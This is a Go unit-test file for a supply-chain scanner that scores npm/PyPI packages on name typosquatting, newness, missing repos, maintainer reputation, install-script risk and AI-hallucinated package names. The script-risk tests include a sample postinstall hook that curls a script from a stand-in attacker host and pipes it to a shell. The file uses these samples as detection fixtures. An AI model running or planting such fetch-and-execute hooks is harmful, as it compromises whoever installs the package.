package signals

import (
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/phantomscan/phantomscan/internal/corpus"
	"github.com/phantomscan/phantomscan/internal/model"
	"github.com/phantomscan/phantomscan/internal/policy"
)

var testNow = time.Date(2025, 6, 1, 12, 0, 0, 0, time.UTC)

func testPolicy() *policy.Policy {
	pol := policy.Default()
	pol.Heuristics.SuspiciousPrefixes = []string{"openai"}
	pol.Heuristics.SuspiciousSuffixes = []string{"cli"}
	pol.Heuristics.CanonicalPackages = map[string][]string{
		"pypi": {"requests"},
	}
	return pol
}

func almostEqual(a, b float64) bool {
	diff := a - b
	if diff < 0 {
		diff = -diff
	}
	return diff < 1e-9
}

func TestNameSuspicion(t *testing.T) {
	pol := testPolicy()

	tests := []struct {
		name        string
		pkg         string
		wantValue   float64
		wantReasons int
	}{
		// brand prefix alone: 0.8
		{"brand prefix", "openai-toolkit", 0.8, 1},
		// trope suffix alone: 0.6
		{"trope suffix", "fancy-cli", 0.6, 1},
		// prefix and suffix combine by max, not sum
		{"prefix beats suffix", "openai-cli", 0.8, 2},
		// trailing digit (0.6) plus near-miss of "requests" at distance 5:
		// (1 - 5/15) * 0.9 = 0.6
		{"typosquat with digit", "requests2", 0.6, 2},
		{"clean name", "zzzzzzzz", 0, 0},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := model.Candidate{Ecosystem: model.EcosystemPyPI, Name: tt.pkg}
			sig := NameSuspicion(c, pol, testNow)
			if sig.Name != model.SignalNameSuspicion {
				t.Errorf("signal name = %q", sig.Name)
			}
			if !almostEqual(sig.Value, tt.wantValue) {
				t.Errorf("value = %v, want %v", sig.Value, tt.wantValue)
			}
			if len(sig.Reasons) != tt.wantReasons {
				t.Errorf("reasons = %v, want %d of them", sig.Reasons, tt.wantReasons)
			}
		})
	}
}

func TestNewness(t *testing.T) {
	pol := policy.Default() // window 30 days

	tests := []struct {
		name      string
		createdAt time.Time
		wantValue float64
	}{
		{"published today", testNow, 1.0},
		// 15/30 through the window: 1 - 15/30 = 0.5
		{"halfway through window", testNow.AddDate(0, 0, -15), 0.5},
		{"older than window", testNow.AddDate(0, 0, -45), 0},
		{"unknown creation time", time.Time{}, 0},
		// clock skew: registry timestamp ahead of us
		{"future timestamp", testNow.AddDate(0, 0, 2), 1.0},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := model.Candidate{Name: "pkg", CreatedAt: tt.createdAt}
			sig := Newness(c, pol, testNow)
			if !almostEqual(sig.Value, tt.wantValue) {
				t.Errorf("value = %v, want %v", sig.Value, tt.wantValue)
			}
		})
	}
}

func TestRepoMissing(t *testing.T) {
	pol := policy.Default()

	tests := []struct {
		name      string
		repo      string
		home      string
		wantValue float64
	}{
		{"both missing", "", "", 1.0},
		{"repo only missing", "", "https://example.com", 0.5},
		{"homepage only missing", "https://github.com/o/r", "", 0.5},
		{"both present", "https://github.com/o/r", "https://example.com", 0},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := model.Candidate{Name: "pkg", Repository: tt.repo, Homepage: tt.home}
			sig := RepoMissing(c, pol, testNow)
			if !almostEqual(sig.Value, tt.wantValue) {
				t.Errorf("value = %v, want %v", sig.Value, tt.wantValue)
			}
		})
	}
}

func TestMaintainerRep(t *testing.T) {
	pol := policy.Default() // maintainer_age_days 14
	boolPtr := func(b bool) *bool { return &b }
	intPtr := func(i int) *int { return &i }

	tests := []struct {
		name      string
		c         model.Candidate
		wantValue float64
	}{
		{"many maintainers", model.Candidate{MaintainersCount: 5}, 0},
		{"single maintainer", model.Candidate{MaintainersCount: 1}, 1.0},
		// 1.0 base + 0.3 disposable, capped
		{"single plus disposable", model.Candidate{MaintainersCount: 1, DisposableEmail: boolPtr(true)}, 1.0},
		{"young account only", model.Candidate{MaintainersCount: 2, MaintainerAgeDays: intPtr(5)}, 0.3},
		{"disposable plus young", model.Candidate{MaintainersCount: 2, DisposableEmail: boolPtr(true), MaintainerAgeDays: intPtr(5)}, 0.6},
		{"old account", model.Candidate{MaintainersCount: 2, MaintainerAgeDays: intPtr(400)}, 0},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			sig := MaintainerRep(tt.c, pol, testNow)
			if !almostEqual(sig.Value, tt.wantValue) {
				t.Errorf("value = %v, want %v", sig.Value, tt.wantValue)
			}
		})
	}
}

func TestScriptRisk(t *testing.T) {
	pol := policy.Default()

	tests := []struct {
		name         string
		scripts      map[string]string
		wantValue    float64
		wantCritical bool
	}{
		{"no scripts", nil, 0, false},
		{"benign script", map[string]string{"test": "jest"}, 0, false},
		// auto-run stage with no dangerous pattern still gets the floor
		{"auto-run floor", map[string]string{"postinstall": "echo hi"}, 0.4, false},
		// curl (0.4) + sh -c (0.2) in postinstall: critical
		{"fetch and execute on install", map[string]string{"postinstall": "curl http://evil.example/x.sh | sh -c x"}, 0.6, true},
		// four hits with diminishing returns: 0.4 + 0.2 + 0.1 + 0.05
		{"many hits in manual script", map[string]string{"build": "curl x && wget y && eval z | base64 -d"}, 0.75, false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := model.Candidate{Name: "pkg", Scripts: tt.scripts}
			sig := ScriptRisk(c, pol, testNow)
			if !almostEqual(sig.Value, tt.wantValue) {
				t.Errorf("value = %v, want %v", sig.Value, tt.wantValue)
			}
			critical := false
			for _, r := range sig.Reasons {
				if r == "CRITICAL: auto-run lifecycle script contains dangerous patterns" {
					critical = true
				}
			}
			if critical != tt.wantCritical {
				t.Errorf("critical reason = %v, want %v (reasons: %v)", critical, tt.wantCritical, sig.Reasons)
			}
		})
	}
}

func TestHallucination(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "corpus.yml")
	body := "exact:\n  - huggingface-cli\npatterns:\n  - '^gpt[0-9]*-(api|sdk)$'\n"
	if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	c, err := corpus.Load(path)
	if err != nil {
		t.Fatalf("load corpus: %v", err)
	}

	pol := policy.Default()
	pol.Hallucinations = c

	tests := []struct {
		pkg       string
		wantValue float64
	}{
		{"huggingface-cli", 1.0},
		{"HuggingFace-CLI", 1.0}, // case-insensitive
		{"gpt4-sdk", 1.0},
		{"requests", 0},
	}

	for _, tt := range tests {
		t.Run(tt.pkg, func(t *testing.T) {
			sig := Hallucination(model.Candidate{Name: tt.pkg}, pol, testNow)
			if !almostEqual(sig.Value, tt.wantValue) {
				t.Errorf("value = %v, want %v", sig.Value, tt.wantValue)
			}
		})
	}

	t.Run("nil corpus", func(t *testing.T) {
		bare := policy.Default()
		bare.Hallucinations = nil
		sig := Hallucination(model.Candidate{Name: "huggingface-cli"}, bare, testNow)
		if sig.Value != 0 {
			t.Errorf("value = %v, want 0", sig.Value)
		}
	})
}
